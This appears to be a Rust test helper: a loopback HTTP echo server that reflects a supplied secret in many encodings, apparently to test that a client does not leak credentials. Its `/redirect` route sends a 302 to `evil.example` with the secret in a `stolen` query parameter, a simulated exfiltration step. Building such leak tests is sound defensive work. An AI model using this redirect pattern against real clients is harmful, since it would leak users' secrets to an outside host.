//! A server of HTTP that gives back what it is sent, in many spellings, and does what servers should not.
//!
//! It speaks raw HTTP/1.1 on loopback, one request a connection, and remembers what came in.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{IpAddr, SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// What came in: method, target, headers in lower case, body.
#[derive(Clone, Debug)]
pub(crate) struct Seen {
    pub(crate) method: String,
    pub(crate) target: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: Vec<u8>,
}

impl Seen {
    pub(crate) fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(key, _)| key == name).map(|(_, value)| value.as_str())
    }
}

pub(crate) struct Echo {
    pub(crate) address: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Echo {
    pub(crate) fn start() -> Self {
        Self::on("127.0.0.1:0".parse().unwrap())
    }

    pub(crate) fn on(address: SocketAddr) -> Self {
        let listener = TcpListener::bind(address).unwrap();
        let address = listener.local_addr().unwrap();
        let seen = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&seen);
        // Its threads end with the test.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let kept = Arc::clone(&kept);
                std::thread::spawn(move || answer(stream, &kept));
            }
        });
        Self { address, seen }
    }

    pub(crate) fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.address)
    }

    /// Takes what came in since the last time.
    pub(crate) fn seen(&self) -> Vec<Seen> {
        std::mem::take(&mut self.seen.lock().unwrap())
    }

    pub(crate) fn ip(&self) -> IpAddr {
        self.address.ip()
    }
}

fn answer(mut stream: TcpStream, kept: &Mutex<Vec<Seen>>) -> Option<()> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut line = String::new();
    reader.read_line(&mut line).ok()?;
    let mut words = line.split(' ');
    let (method, target) = (words.next()?.to_owned(), words.next()?.to_owned());
    let mut headers = Vec::new();
    loop {
        let mut line = Vec::new();
        reader.read_until(b'\n', &mut line).ok()?;
        let line = String::from_utf8_lossy(&line).trim().to_owned();
        let Some((name, value)) = line.split_once(':') else { break };
        headers.push((name.to_ascii_lowercase(), value.trim().to_owned()));
    }
    let length = headers.iter().find(|(name, _)| name == "content-length");
    let length = length.map_or(0, |(_, value)| value.parse().unwrap_or(0));
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    let seen = Seen { method, target, headers, body };
    kept.lock().unwrap().push(seen.clone());
    stream.write_all(&reply(&seen)).ok()
}

/// The secret as it came: behind the scheme, or in `x-key`, or in the query.
fn secret(seen: &Seen) -> String {
    let given = seen.header("authorization").or(seen.header("x-key"));
    let given = given.map(|text| text.strip_prefix("Bearer ").unwrap_or(text).to_owned());
    given.unwrap_or_else(|| {
        let url = url::Url::parse(&format!("http://h{}", seen.target)).unwrap();
        url.query_pairs()
            .find(|(name, _)| name == "key")
            .map_or(String::new(), |(_, value)| value.into_owned())
    })
}

fn reply(seen: &Seen) -> Vec<u8> {
    let secret = secret(seen);
    let path = seen.target.split('?').next().unwrap_or_default();
    let page = |headers: &str, body: &[u8]| {
        let head = format!("HTTP/1.1 200 OK\r\n{headers}Content-Length: {}\r\n\r\n", body.len());
        [head.as_bytes(), body].concat()
    };
    match path {
        "/all" => {
            let headers: serde_json::Map<String, serde_json::Value> =
                seen.headers.iter().map(|(name, value)| (name.clone(), json!(value))).collect();
            let body = json!({"method": seen.method, "target": seen.target, "headers": headers, "body": String::from_utf8_lossy(&seen.body)});
            page("Content-Type: application/json\r\n", body.to_string().as_bytes())
        }
        "/spellings" => page("", spellings(&secret).join("\n").as_bytes()),
        "/headers" => {
            let header = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect::<String>();
            let basic = STANDARD.encode(format!("me:{secret}"));
            let set = format!(
                "Set-Cookie: a={secret}\r\nSet-Cookie: b=2\r\nX-Raw: {secret}\r\nX-Form: {header}\r\n"
            );
            page(&format!("{set}X-Basic: {basic}\r\nX-Two: one\r\nX-Two: two\r\n"), b"ok")
        }
        "/gzip" => page("Content-Encoding: gzip\r\n", &gzip(format!("packed {secret} packed").as_bytes())),
        "/br" => page("Content-Encoding: br\r\n", format!("not really packed {secret}").as_bytes()),
        "/twice" => page("Content-Encoding: gzip, gzip\r\n", &gzip(&gzip(secret.as_bytes()))),
        "/utf16" => {
            let utf16: Vec<u8> = secret.encode_utf16().flat_map(u16::to_le_bytes).collect();
            page("", &[b"\0\x01", utf16.as_slice(), b"\0\x02"].concat())
        }
        "/redirect" => {
            let to = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect::<String>();
            let head = format!(
                "HTTP/1.1 302 Found\r\nLocation: http://evil.example/?stolen={to}\r\nContent-Length: 0\r\n\r\n"
            );
            head.into_bytes()
        }
        "/big" => {
            // So many bytes before the secret as the query says, and many behind it.
            let before: usize = seen.target.split_once("before=").map_or(0, |(_, n)| n.parse().unwrap());
            page("", &[vec![b'x'; before], secret.into_bytes(), vec![b'y'; 300_000]].concat())
        }
        "/slow" => {
            std::thread::sleep(Duration::from_secs(20));
            page("", b"late")
        }
        "/broken" => format!("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{secret}").into_bytes(),
        "/nonsense" => format!("{secret} {secret}\r\n\r\n").into_bytes(),
        _ => page("", b"ok"),
    }
}

/// The secret as servers write it, by encoders of others.
pub(crate) fn spellings(secret: &str) -> Vec<String> {
    let json = serde_json::to_string(secret).unwrap();
    let mut found = vec![
        secret.to_owned(),
        secret.to_uppercase(),
        json.trim_matches('"').to_owned(),
        json.trim_matches('"').replace('/', "\\/"),
        url::form_urlencoded::byte_serialize(secret.as_bytes()).collect(),
        percent_encoding::utf8_percent_encode(secret, percent_encoding::NON_ALPHANUMERIC).to_string(),
        secret
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&#39;"),
        secret.bytes().map(|byte| format!("{byte:02x}")).collect(),
        secret.bytes().map(|byte| format!("{byte:02X}")).collect(),
    ];
    for front in ["", "a", "ab", "me:"] {
        found.push(STANDARD.encode(format!("{front}{secret}")));
        found.push(base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("{front}{secret}")));
    }
    found
}

/// Every text of which one in what somebody can read would give the secret away: the spellings, those of base64
/// without their edges.
pub(crate) fn traces(secret: &str) -> Vec<String> {
    let cut = |text: String| if text.len() > 12 { text[3..text.len() - 4].to_owned() } else { text };
    let mut found = spellings(secret);
    let base64 = found.split_off(found.len() - 8);
    found.extend(base64.into_iter().map(cut));
    found
}

/// gzip without compression (<https://www.rfc-editor.org/rfc/rfc1952>).
fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut crc = !0_u32;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xedb8_8320 } else { crc >> 1 };
        }
    }
    let length = u16::try_from(bytes.len()).unwrap();
    let mut packed = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255, 1];
    packed.extend(length.to_le_bytes());
    packed.extend((!length).to_le_bytes());
    packed.extend(bytes);
    packed.extend((!crc).to_le_bytes());
    packed.extend(u32::from(length).to_le_bytes());
    packed
}
